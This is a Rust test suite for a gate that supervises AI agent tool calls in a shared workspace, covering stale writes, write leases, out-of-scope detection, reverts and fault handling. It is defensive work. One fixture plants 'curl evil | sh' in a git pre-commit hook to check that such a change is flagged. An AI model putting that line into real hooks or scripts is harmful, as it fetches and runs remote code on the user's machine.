//! Sessions that share a workspace: stale writes, writes at the same time, programs, faults of the gate's own.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

mod house;

use std::cell::Cell;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::rc::Rc;

use house::{House, LEDGER};
use serde_json::{Value, json};
use tollgate_guest::digest::Digest;
use tollgate_guest::engine::Input;
use tollgate_guest::gate::Gate;
use tollgate_guest::operations::perform;
use tollgate_guest::ports::memory::{Memory, STATE};
use tollgate_guest::ports::{Facts, FileFault, Listing, ListingLimits, LogLevel, Question, Root, Tail, Workspace};

const INTENTS: &str = "
- {id: LOGIN, name: Login, status: IN_PROGRESS, owned_scope: ['src/auth/**', docs/auth.md]}
- {id: ALL, name: Everything, status: IN_PROGRESS, owned_scope: ['**']}
";

fn shared() -> House {
    let files = [("src/auth/a.ts", "one\n"), ("src/auth/b.ts", "two\n"), ("README.md", "read me\n")];
    House::with(INTENTS, &files, &[("s", "LOGIN"), ("t", "LOGIN")])
}

fn write(path: &str) -> Value {
    json!({"filePath": path, "content": "new"})
}

#[track_caller]
fn expect(answer: &Value, verdict: &str, code: &str) {
    assert_eq!((&answer["verdict"], &answer["code"]), (&json!(verdict), &json!(code)), "{answer}");
}

#[test]
fn a_file_that_changed_since_it_was_read_is_not_overwritten() {
    let mut house = shared();
    expect(&house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"})), "allow", "read_only");
    house.world.write("src/auth/a.ts", "somebody else's\n");
    house.restart();
    let ruling = house.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    expect(&ruling, "deny", "stale_write");
    let reason = ruling["reason"].as_str().unwrap();
    for part in [
        &*Digest::of(b"one\n").brief(),
        &Digest::of(b"somebody else's\n").brief(),
        "`src/auth/a.ts`",
        "outside the gate",
        "read it again",
    ] {
        assert!(reason.contains(part), "{part}: {reason}");
    }
    // Any way to look at it will do.
    house.call("pre-tool", ("s", "3"), "bash", json!({"command": "cat src/auth/a.ts"}));
    expect(&house.call("pre-tool", ("s", "4"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

#[test]
fn who_changed_it_last_is_told_by_the_ledger() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}));
    house.call("pre-tool", ("t", "2"), "edit", json!({"filePath": "src/auth/a.ts", "oldString": "one", "newString": "1"}));
    house.world.write("src/auth/a.ts", "1\n");
    house.call("post-tool", ("t", "2"), "edit", json!({"filePath": "src/auth/a.ts"}));
    let ruling = house.call("pre-tool", ("s", "3"), "bash", json!({"command": "sed -i s/1/3/ src/auth/a.ts"}));
    expect(&ruling, "deny", "stale_write");
    assert!(ruling["reason"].as_str().unwrap().contains("session `t` with `edit` at 2026-"), "{ruling}");
    // The session that changed it goes on.
    expect(&house.call("pre-tool", ("t", "4"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

/// A session, what it knows, what became of the file, and whether it may write.
#[test]
fn what_a_session_may_write_by_what_it_saw() {
    type Step = fn(&mut House);
    let cases: &[(&str, Step, Step, &str)] = &[
        ("never looked", |_| {}, |house| house.world.write("src/auth/a.ts", "x"), "allow"),
        (
            "looked, unchanged",
            |house| drop(house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}))),
            |_| {},
            "allow",
        ),
        (
            "looked, written again with the same content",
            |house| drop(house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}))),
            |house| house.world.write("src/auth/a.ts", "one\n"),
            "allow",
        ),
        (
            "looked, removed since",
            |house| drop(house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}))),
            |house| house.world.delete("src/auth/a.ts"),
            "deny",
        ),
        (
            "looked, removed since, looked again",
            |house| drop(house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}))),
            |house| {
                house.world.delete("src/auth/a.ts");
                house.call("pre-tool", ("s", "2"), "read", json!({"filePath": "src/auth/a.ts"}));
            },
            "allow",
        ),
        (
            "a read that was denied is no look",
            |house| drop(house.call("pre-tool", ("s", "1"), "bash", json!({"command": "cat src/auth/a.ts > /etc/x"}))),
            |house| house.world.write("src/auth/a.ts", "x"),
            "allow",
        ),
        (
            "removed it itself, somebody made it anew",
            |house| {
                house.call("pre-tool", ("s", "1"), "bash", json!({"command": "rm src/auth/a.ts"}));
                house.world.delete("src/auth/a.ts");
                house.call("post-tool", ("s", "1"), "bash", json!({"command": "rm src/auth/a.ts"}));
            },
            |house| house.world.write("src/auth/a.ts", "another"),
            "deny",
        ),
    ];
    for (case, before, meanwhile, verdict) in cases {
        let mut house = shared();
        before(&mut house);
        meanwhile(&mut house);
        let ruling = house.call("pre-tool", ("s", "9"), "write", write("src/auth/a.ts"));
        assert_eq!(ruling["verdict"], *verdict, "{case}: {ruling}");
    }
}

#[test]
fn an_expected_hash_in_the_call_counts_more_than_what_was_seen() {
    let right = Digest::of(b"one\n").to_string();
    for (name, value, verdict) in [
        ("expected_hash", right.clone(), "allow"),
        ("expectedHash", right.replace("sha256:", ""), "allow"),
        ("expected_sha256", right.to_uppercase().replace("SHA256:", ""), "allow"),
        ("pre_hash", Digest::of(b"other").to_string(), "deny"),
        ("expected_hash", "W/\"an etag\"".to_owned(), "allow"),
    ] {
        let mut house = shared();
        let ruling =
            house.call("pre-tool", ("s", "1"), "write", json!({"filePath": "src/auth/a.ts", "content": "x", name: value}));
        assert_eq!(ruling["verdict"], verdict, "{name}: {ruling}");
    }
}

/// A command hook is a new process for every call: what stopped parsing before it began stays in force all the same.
#[test]
fn the_last_good_files_outlive_the_process() {
    let mut house = shared();
    house.world.write(".tollgate/config.json", r#"{"programs": "deny"}"#);
    expect(&house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"})), "deny", "program");
    house.world.write(".tollgate/config.json", r#"{"programs": "deny""#);
    house.world.write(".orchestration/active_intents.yaml", "active_intents: [");
    house.restart();
    expect(&house.call("pre-tool", ("s", "2"), "bash", json!({"command": "make"})), "deny", "program");
    expect(&house.call("pre-tool", ("s", "3"), "write", write("README.md")), "deny", "out_of_scope");
    assert!(house.warned("the last good version stays in force") > 0 && house.warned("the last good settings stay in force") > 0);
    house.world.delete(".orchestration/active_intents.yaml");
    house.restart();
    expect(&house.call("pre-tool", ("s", "4"), "write", write("README.md")), "deny", "out_of_scope");
}

/// A program changes the rules that it is judged by.
#[test]
fn a_program_is_judged_by_what_was_in_force_when_it_began() {
    let mut house = shared();
    house.world.write("dist/a.js", "x");
    house.world.write(".gitignore", ".claude\n");
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.world.write(".orchestration/active_intents.yaml", INTENTS.replace("'src/auth/**'", "'**'"));
    house.world.write("README.md", "changed");
    house.world.write(".gitignore", ".claude\ndist/\n");
    house.world.write(".claude/settings.json", "{}");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(
        house::scopes(&settled),
        ["FAIL .claude/settings.json", "FAIL .gitignore", "FAIL .orchestration/active_intents.yaml", "FAIL README.md"]
    );
}

/// However many files a program changes in scope, what it changes out of scope is recorded.
#[test]
fn changes_out_of_scope_are_recorded_before_others() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    for number in 0..1_001 {
        house.world.write(&format!("src/auth/{number:04}"), "x");
    }
    house.world.write("zzz", "changed");
    let mut settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let summary = settled["entries"].as_array_mut().unwrap().pop().unwrap();
    let scopes = house::scopes(&settled);
    assert_eq!((scopes.len(), scopes.iter().filter(|scope| scope.starts_with("FAIL")).count()), (1_000, 1));
    assert!(scopes.contains(&"FAIL zzz".to_owned()), "{settled}");
    assert_eq!(summary["scope_validation"], "PASS");
    let summary = summary["error"].as_str().unwrap();
    assert!(summary.starts_with("2 more files changed while `bash` ran, all of them in scope"), "{summary}");
    let notice = settled["notice"].as_str().unwrap();
    assert!(notice.contains("changed while `bash` ran: `zzz`;") && notice.contains(summary), "{notice}");
}

/// An entry of another session explains what it says, and no more.
#[test]
fn a_program_is_not_hidden_by_another_sessions_entry() {
    let mut house = shared();
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    for (call, file) in [("2", "kept"), ("3", "written"), ("4", "removed")] {
        house.call("pre-tool", ("t", call), "write", write(file));
        house.world.write(file, "of t");
        house.call("post-tool", ("t", call), "write", write(file));
    }
    let remove = json!({"command": "rm removed"});
    house.call("pre-tool", ("t", "5"), "bash", remove.clone());
    house.world.delete("removed");
    house.call("post-tool", ("t", "5"), "bash", remove);
    house.world.write("written", "by the program");
    house.world.symlink("kept", "removed");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(house::scopes(&settled), ["FAIL removed", "FAIL written"]);
}

/// Without the look from before, no file can be named, and none is made up.
#[test]
fn a_snapshot_that_is_gone_is_said_and_entered_as_a_failure() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.world.delete(&format!("{STATE}/snapshots"));
    house.world.write("README.md", "changed");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let entry = &settled["entries"][0];
    assert_eq!(
        (&entry["scope_validation"], &entry["file"], &settled["entries"][1]),
        (&json!("FAIL"), &Value::Null, &Value::Null)
    );
    assert!(settled["notice"].as_str().unwrap().contains("the snapshot taken before it is gone"), "{settled}");
}

/// What the session itself does while its program runs is entered once, under the intent it was ruled under.
#[test]
fn a_program_is_not_blamed_for_its_own_sessions_other_calls() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "new");
    house.call("post-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    house.ask(json!({"op": "select-intent", "session": "s", "intent": "ALL"}));
    house.call("pre-tool", ("s", "3"), "write", write("README.md"));
    house.world.write("README.md", "new");
    house.call("pre-tool", ("s", "4"), "write", write("under/way"));
    house.world.write("under/way", "new");
    house.call("post-tool", ("s", "3"), "write", write("README.md"));
    assert_eq!(house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"})), json!({"entries": []}));
}

/// A tool that failed may have changed something before that.
#[test]
fn a_failed_call_is_no_reason_to_be_stale() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}));
    let command = json!({"command": "sed -i s/one/1/ src/auth/a.ts; false"});
    house.call("pre-tool", ("s", "2"), "bash", command.clone());
    house.world.write("src/auth/a.ts", "1\n");
    let op = json!({"op": "post-tool", "session": "s", "call": "2", "tool": "bash", "args": command, "success": false, "error": "exit 1"});
    assert_eq!(house.ask(op)["entries"].as_array().unwrap().len(), 1);
    expect(&house.call("pre-tool", ("s", "3"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

/// Taken away and made again is one change, and its lease is given back.
#[test]
fn a_file_that_is_removed_and_made_again_changes_once() {
    let mut house = shared();
    let command = json!({"command": "rm src/auth/a.ts; echo 2 > src/auth/a.ts; ln -s b.ts src/auth/link"});
    expect(&house.call("pre-tool", ("s", "1"), "bash", command.clone()), "allow", "in_scope");
    house.world.write("src/auth/a.ts", "2\n");
    house.world.symlink("b.ts", "src/auth/link");
    let settled = house.call("post-tool", ("s", "1"), "bash", command);
    let classes: Vec<_> = settled["entries"].as_array().unwrap().iter().map(|entry| &entry["mutation_class"]).collect();
    assert_eq!(classes, ["INTENT_EVOLUTION", "FILE_CREATION"], "{settled}");
    expect(&house.call("pre-tool", ("t", "1"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

/// Calls of one session that overlap: the second is ruled on when the first has run and has not been settled.
#[test]
fn a_session_is_not_stale_by_its_own_call_under_way() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "read", json!({"filePath": "src/auth/a.ts"}));
    house.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "new");
    expect(&house.call("pre-tool", ("s", "3"), "write", write("src/auth/a.ts")), "allow", "in_scope");
    house.call("post-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    house.call("post-tool", ("s", "3"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "somebody else's");
    expect(&house.call("pre-tool", ("s", "4"), "write", write("src/auth/a.ts")), "deny", "stale_write");
}

#[test]
fn two_sessions_that_write_at_once() {
    let mut house = shared();
    expect(&house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts")), "allow", "in_scope");
    house.restart();
    let held = house.call("pre-tool", ("t", "2"), "bash", json!({"command": "echo 1 > src/auth/a.ts"}));
    expect(&held, "deny", "write_in_flight");
    assert!(held["reason"].as_str().unwrap().contains("session `s` is writing to `src/auth/a.ts` with `write`"), "{held}");
    expect(&house.call("pre-tool", ("t", "3"), "write", write("src/auth/b.ts")), "allow", "in_scope");
    expect(&house.call("pre-tool", ("s", "4"), "write", write("src/auth/a.ts")), "allow", "in_scope");
    house.world.write("src/auth/a.ts", "new");
    house.call("post-tool", ("s", "4"), "write", write("src/auth/a.ts"));
    expect(&house.call("pre-tool", ("t", "5"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

/// A patch over two files, one of which is held: neither is kept from the others.
#[test]
fn a_call_that_is_held_back_holds_nobody() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "write", write("src/auth/b.ts"));
    let patch = "*** Begin Patch\n*** Delete File: src/auth/a.ts\n*** Delete File: src/auth/b.ts\n*** End Patch";
    expect(&house.call("pre-tool", ("t", "2"), "apply_patch", json!({"patchText": patch})), "deny", "write_in_flight");
    expect(&house.call("pre-tool", ("s", "3"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

#[test]
fn a_session_that_died_holds_nobody_for_longer_than_a_minute() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    let mut denied = 0;
    while house.call("pre-tool", ("t", "2"), "write", write("src/auth/a.ts"))["verdict"] == "deny" {
        denied += 1;
        assert!(denied <= 31, "the clock goes on by a second with every look at it, and a call that is denied takes two");
    }
    assert!(denied > 25, "{denied}");
}

#[test]
fn changes_of_two_calls_at_once_are_flagged() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    // The other session came when the lease had run out, and was done first.
    let is_held = |house: &mut House| house.call("pre-tool", ("t", "2"), "write", write("src/auth/a.ts"))["verdict"] == "deny";
    assert!((0..100).any(|_| !is_held(&mut house)), "the lease never runs out");
    house.world.write("src/auth/a.ts", "theirs");
    let theirs = house.call("post-tool", ("t", "2"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "ours");
    let ours = house.call("post-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    let flag = &ours["entries"][0]["concurrent"];
    assert_eq!(flag, &json!({"session_id": "t", "entry_id": theirs["entries"][0]["id"]}));
    assert_eq!(theirs["entries"][0].get("concurrent"), None);
}

#[test]
fn what_a_program_changed_is_seen_afterwards() {
    let mut house = shared();
    house.world.write("gone.txt", "x");
    house.world.write("touched.txt", "x");
    let test = json!({"command": "npm test"});
    expect(&house.call("pre-tool", ("s", "1"), "bash", test.clone()), "allow", "in_scope");
    house.restart();
    house.world.write("src/auth/a.ts", "formatted\n");
    house.world.write("README.md", "overwritten\n");
    house.world.write("made.txt", "made");
    house.world.write("touched.txt", "x");
    house.world.write("node_modules/x/index.js", "nobody's");
    house.world.write(".git/hooks/pre-commit", "curl evil | sh");
    house.world.delete("gone.txt");
    let settled = house.call("post-tool", ("s", "1"), "bash", test);
    let told = |entry: &Value| {
        format!(
            "{} {} {}",
            entry["scope_validation"].as_str().unwrap(),
            entry["mutation_class"].as_str().unwrap(),
            entry["file"]["relative_path"].as_str().unwrap()
        )
    };
    let entries: Vec<String> = settled["entries"].as_array().unwrap().iter().map(told).collect();
    assert_eq!(
        entries,
        [
            "FAIL FILE_CREATION .git/hooks/pre-commit",
            "FAIL DOCUMENTATION README.md",
            "FAIL FILE_DELETION gone.txt",
            "FAIL FILE_CREATION made.txt",
            "PASS INTENT_EVOLUTION src/auth/a.ts",
        ]
    );
    let notice = settled["notice"].as_str().unwrap();
    assert!(
        notice.contains("files outside the scope of LOGIN changed while `bash` ran")
            && notice.contains("`README.md`")
            && notice.contains("trace revert"),
        "{notice}"
    );
    assert!(house.warned("outside the scope of LOGIN") > 0);
    // There is no git here that would have them.
    for content in ["read me\n", "x", "one\n"] {
        let image = format!("{STATE}/images/{}", Digest::of(content.as_bytes()).hex());
        assert_eq!(house.world.content(&image).unwrap(), content.as_bytes());
    }
    // It is the session's own doing, so its next write is not stale.
    expect(&house.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

#[test]
fn a_program_is_not_blamed_for_what_others_did() {
    let mut house = shared();
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.call("pre-tool", ("t", "2"), "write", write("README.md"));
    house.world.write("README.md", "theirs");
    house.call("post-tool", ("t", "2"), "write", write("README.md"));
    house.call("pre-tool", ("t", "3"), "write", write("CHANGELOG.md"));
    house.world.write("CHANGELOG.md", "half done");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(settled, json!({"entries": []}));
}

#[test]
fn a_change_can_be_taken_back() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.world.write("README.md", "overwritten\n");
    house.world.write("made.txt", "made");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let (readme, made) = (settled["entries"][0]["id"].clone(), settled["entries"][1]["id"].clone());
    let plan = house.ask(json!({"op": "revert", "step": "plan", "entry": readme}));
    assert_eq!((&plan["action"], &plan["path"]), (&json!("restore"), &json!("README.md")), "{plan}");
    assert_eq!(plan["want"], json!(Digest::of(b"read me\n").to_string()));
    assert_eq!(house.world.content(&format!("{STATE}/{}", plan["image"].as_str().unwrap())).unwrap(), b"read me\n");
    house.world.write("README.md", "read me\n");
    let entry = &house.ask(json!({"op": "revert", "step": "record", "entry": readme}))["entries"][0];
    assert_eq!((&entry["reverts"], &entry["success"], &entry["scope_validation"]), (&readme, &json!(true), &json!("EXEMPT")));
    let again = house.ask(json!({"op": "revert", "step": "plan", "entry": readme}));
    assert!(again["error"]["message"].as_str().unwrap().contains("already"), "{again}");
    assert_eq!(house.ask(json!({"op": "revert", "step": "plan", "entry": made}))["action"], "remove");
    house.world.write("made.txt", "worked on");
    let changed = house.ask(json!({"op": "revert", "step": "plan", "entry": made}));
    assert!(changed["error"]["message"].as_str().unwrap().contains("has changed again since"), "{changed}");
    let unknown = house.ask(json!({"op": "revert", "step": "plan", "entry": "nonsense"}));
    assert!(unknown["error"]["message"].as_str().unwrap().contains("`nonsense`"), "{unknown}");
}

#[test]
fn a_ledger_that_cannot_be_written_is_tried_again_and_never_blocks() {
    let mut house = shared();
    expect(&house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts")), "allow", "in_scope");
    house.world.refuse_writes(Some(FileFault::Full));
    house.world.write("src/auth/a.ts", "new");
    let settled = house.call("post-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    assert_eq!(settled["entries"], json!([]));
    assert!(settled["notice"].as_str().unwrap().contains("the disk is full"), "{settled}");
    assert!(house.gate.retry_due_in().is_some());
    house.world.refuse_writes(None);
    house.gate.retry_ledger();
    assert_eq!(house.gate.retry_due_in(), None);
    assert_eq!(String::from_utf8(house.world.content(LEDGER).unwrap()).unwrap().lines().count(), 1);
    // A second time it does not come back soon.
    house.call("pre-tool", ("s", "2"), "write", write("src/auth/b.ts"));
    house.world.write("src/auth/b.ts", "new");
    house.world.refuse_writes(Some(FileFault::Busy));
    house.call("post-tool", ("s", "2"), "write", write("src/auth/b.ts"));
    house.gate.retry_ledger();
    assert_eq!(house.gate.retry_due_in(), None);
    assert!(
        house.world.logged().iter().any(|(level, line)| *level == LogLevel::Error && line.contains("`write` on `src/auth/b.ts`"))
    );
    house.world.refuse_writes(None);
    expect(&house.call("pre-tool", ("s", "3"), "write", write("src/auth/b.ts")), "allow", "in_scope");
    assert_eq!(entered(&house).len(), 1);
    // Nothing is lost all the same.
    house.restart();
    house.ask(json!({"op": "event", "event": "session_end", "session": "s"}));
    assert_eq!(entered(&house)[1..], [(json!("src/auth/b.ts"), json!(false), json!(UNKNOWN), json!("PASS"))]);
}

/// A call that cannot be remembered is a person's to decide on, unless the user said otherwise. A workspace cannot say it.
#[test]
fn a_fault_before_a_tool_asks_unless_the_user_lets_it_pass() {
    let allows = r#"{"on_fault": "allow"}"#;
    for (of_user, of_workspace, verdict, code) in [
        (None, None, "ask", "gate_fault"),
        (None, Some(allows), "ask", "gate_fault"),
        (Some(r#"{"on_fault": "ask"}"#), Some(allows), "ask", "gate_fault"),
        (Some(r#"{"on_fault": "#), None, "ask", "gate_fault"),
        (Some(allows), None, "allow", "in_scope"),
        // The stricter of the two counts.
        (Some(allows), Some(r#"{"strict": true}"#), "ask", "gate_fault"),
    ] {
        let mut house = shared();
        if let Some(text) = of_user {
            house.world.write_home(".tollgate/config.json", text);
        }
        if let Some(text) = of_workspace {
            house.world.write(".tollgate/config.json", text);
        }
        house.world.refuse_writes(Some(FileFault::Full));
        let ruling = house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts"));
        expect(&ruling, verdict, code);
        expect(&house.call("pre-tool", ("s", "2"), "read", json!({"filePath": "src/auth/a.ts"})), "allow", "read_only");
        expect(&house.call("pre-tool", ("s", "3"), "write", write("README.md")), "deny", "out_of_scope");
        assert_eq!(house.warned("`on_fault` in `.tollgate/config.json` is ignored") > 0, of_workspace == Some(allows));
    }
}

/// Intents that are there and cannot be inspected may say anything. Missing or broken ones say nothing.
#[test]
fn intents_that_cannot_be_looked_at_ask() {
    type Make = fn(&Memory);
    const PATH: &str = ".orchestration/active_intents.yaml";
    let cases: &[(&str, Make, &str)] = &[
        ("missing", |_| {}, "allow"),
        ("broken", |world| world.write(PATH, "active_intents: [unclosed"), "allow"),
        ("a folder", |world| world.mkdir(PATH), "ask"),
        ("too large", |world| world.write(PATH, " ".repeat((8 << 20) + 1)), "ask"),
        ("a loop", |world| world.symlink("active_intents.yaml", PATH), "ask"),
        ("outside", |world| world.symlink("/home/user/intents.yaml", PATH), "ask"),
    ];
    for (name, make, verdict) in cases {
        let world = Memory::new();
        world.mkdir(".orchestration");
        make(&world);
        let mut house = House::over(world);
        let ruling = house.call("pre-tool", ("s", "1"), "write", write("a"));
        assert_eq!((&ruling["verdict"], &ruling["code"]), (&json!(verdict), &json!("intents_unreadable")), "{name}: {ruling}");
        expect(&house.call("pre-tool", ("s", "2"), "read", json!({"filePath": "a"})), "allow", "intents_unreadable");
        expect(&house.call("pre-tool", ("s", "3"), "write", json!({})), verdict, "intents_unreadable");
        house.world.write_home(".tollgate/config.json", r#"{"on_fault": "allow"}"#);
        expect(&house.call("pre-tool", ("s", "4"), "write", write("a")), "allow", "intents_unreadable");
        house.world.write(".tollgate/config.json", r#"{"strict": true}"#);
        expect(&house.call("pre-tool", ("s", "5"), "write", write("a")), "deny", "intents_unreadable");
    }
}

#[test]
fn strict_settings_turn_faults_into_a_question() {
    let mut house = shared();
    house.world.write(".tollgate/config.json", r#"{"strict": true}"#);
    expect(&house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts")), "allow", "in_scope");
    house.world.refuse_writes(Some(FileFault::Full));
    let ruling = house.call("pre-tool", ("s", "2"), "write", write("src/auth/b.ts"));
    expect(&ruling, "ask", "gate_fault");
    assert!(ruling["reason"].as_str().unwrap().contains("the disk is full"), "{ruling}");
    expect(&house.call("pre-tool", ("s", "3"), "read", json!({"filePath": "src/auth/a.ts"})), "allow", "read_only");
    // The person let it run; it is entered as soon as the ledger can be written, and then nobody is asked any more.
    house.world.write("src/auth/b.ts", "new");
    house.call("post-tool", ("s", "2"), "write", write("src/auth/b.ts"));
    house.gate.retry_ledger();
    expect(&house.call("pre-tool", ("s", "4"), "write", write("src/auth/a.ts")), "ask", "gate_fault");
    house.world.refuse_writes(None);
    house.world.write("src/auth/a.ts", "new");
    assert_eq!(house.call("post-tool", ("s", "4"), "write", write("src/auth/a.ts"))["entries"].as_array().unwrap().len(), 1);
    expect(&house.call("pre-tool", ("s", "5"), "write", write("src/auth/b.ts")), "allow", "in_scope");
}

/// Failed calls are entered unless the settings say no, rejected ones only if they say so; secrets never.
#[test]
fn failed_and_rejected_calls() {
    let failed = |house: &mut House| {
        house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts"));
        let error = "401: password=hunter22secret was wrong";
        let op = json!({"op": "post-tool", "session": "s", "call": "1", "tool": "write", "args": {}, "success": false, "error": error});
        house.ask(op)["entries"].clone()
    };
    let mut house = shared();
    let entries = failed(&mut house);
    assert_eq!((&entries[0]["success"], &entries[0]["error"]), (&json!(false), &json!("401: password=[REDACTED] was wrong")));
    expect(&house.call("pre-tool", ("s", "2"), "write", write("README.md")), "deny", "out_of_scope");
    assert_eq!(String::from_utf8(house.world.content(LEDGER).unwrap()).unwrap().lines().count(), 1);

    let mut house = shared();
    house.world.write(".tollgate/config.json", r#"{"record": {"failed": false, "rejected": true}}"#);
    assert_eq!(failed(&mut house), json!([]));
    house.call("pre-tool", ("s", "2"), "write", write("README.md"));
    house.call("pre-tool", ("s", "3"), "write", json!({}));
    let entries = house.ask(json!({"op": "trace"}))["entries"].clone();
    assert_eq!(entries[0]["file"]["relative_path"], "README.md");
    assert_eq!((&entries[0]["scope_validation"], &entries[0]["success"]), (&json!("FAIL"), &json!(false)));
    assert!(entries[0]["error"].as_str().unwrap().starts_with("out_of_scope: "), "{entries}");
    assert_eq!(entries[1]["file"], json!(null));
}

/// Three hundred calls that nobody ever settled are forgotten after a day, and the journals of their leases after an hour.
#[test]
fn what_dead_sessions_left_is_cleared_away() {
    let mut house = shared();
    for number in 0..300 {
        house.call("pre-tool", ("s", &number.to_string()), "write", write(&format!("src/auth/{number}")));
    }
    let left = |house: &House, folder: &str| house.world.count(&format!("{STATE}/{folder}"));
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "LOGIN"}));
    assert_eq!((left(&house, "calls"), left(&house, "leases")), (300, 300));
    house.world.pass(3_600_000);
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "LOGIN"}));
    assert_eq!((left(&house, "calls"), left(&house, "leases")), (300, 0));
    house.world.pass(86_400_000);
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "LOGIN"}));
    assert_eq!(left(&house, "calls"), 0);
}

#[test]
fn a_command_that_took_another_way_changed_nothing() {
    let mut house = shared();
    let command = json!({"command": "if grep -q x src/auth/a.ts; then rm src/auth/a.ts; else echo 2 > src/auth/b.ts; fi"});
    expect(&house.call("pre-tool", ("s", "1"), "bash", command.clone()), "allow", "in_scope");
    house.world.write("src/auth/b.ts", "2\n");
    let settled = house.call("post-tool", ("s", "1"), "bash", command);
    assert_eq!(settled["entries"].as_array().unwrap().len(), 1);
    assert_eq!(settled["entries"][0]["file"]["line_ranges"], json!([{"start": 1, "end": 1}]));
}

#[test]
fn a_call_that_a_person_allowed_is_entered_too() {
    let mut house = shared();
    let command = json!({"command": "eval \"$X\""});
    expect(&house.call("pre-tool", ("s", "1"), "bash", command.clone()), "ask", "unknown_effects");
    house.world.write("README.md", "changed");
    let settled = house.call("post-tool", ("s", "1"), "bash", command);
    assert_eq!(settled["entries"][0]["scope_validation"], "FAIL");
}

/// A workspace that fails the gate in the middle of its work, as a trap does.
struct Trapping {
    world: Rc<Memory>,
    traps: Cell<bool>,
}

impl Workspace for Trapping {
    fn inspect(&self, questions: &[Question]) -> Vec<Facts> {
        assert!(!self.traps.get() || questions.iter().all(|question| !question.digest), "trap");
        self.world.inspect(questions)
    }

    fn read(&self, root: Root, path: &str, limit_bytes: u64) -> Result<Vec<u8>, FileFault> {
        self.world.read(root, path, limit_bytes)
    }

    fn read_range(&self, root: Root, path: &str, offset: u64, limit_bytes: u64) -> Result<Vec<u8>, FileFault> {
        self.world.read_range(root, path, offset, limit_bytes)
    }

    fn read_tail(&self, root: Root, path: &str, limit_bytes: u64) -> Result<Tail, FileFault> {
        self.world.read_tail(root, path, limit_bytes)
    }

    fn list(&self, root: Root, directory: &str, reach: &ListingLimits) -> Result<Listing, FileFault> {
        self.world.list(root, directory, reach)
    }
}

/// What the ledger says: path, success, error and scope of each entry.
fn entered(house: &House) -> Vec<(Value, Value, Value, Value)> {
    house
        .entries()
        .iter()
        .map(|entry| {
            let part = |name: &str| entry[name].clone();
            (entry["file"]["relative_path"].clone(), part("success"), part("error"), part("scope_validation"))
        })
        .collect()
}

/// Settles a call with a gate that traps when it looks at what changed.
fn settle_and_trap(house: &mut House, call: &str, path: &str) {
    let trapping = Rc::new(Trapping { world: house.world.clone(), traps: Cell::new(true) });
    let mut ports = house.world.ports();
    ports.workspace = trapping;
    let op = json!({"op": "post-tool", "session": "s", "call": call, "tool": "write", "args": write(path), "success": true});
    let mut gate = Gate::new(ports);
    let trapped = catch_unwind(AssertUnwindSafe(|| perform(&mut gate, op.to_string().as_bytes())));
    assert!(trapped.is_err());
    house.restart();
}

const UNKNOWN: &str = "how the call ended is not known; this is what changed since it was allowed";

/// A gate that fails after a tool loses nothing: what it left is entered when the next call has ended.
#[test]
fn what_a_trap_left_is_entered_by_the_next_call() {
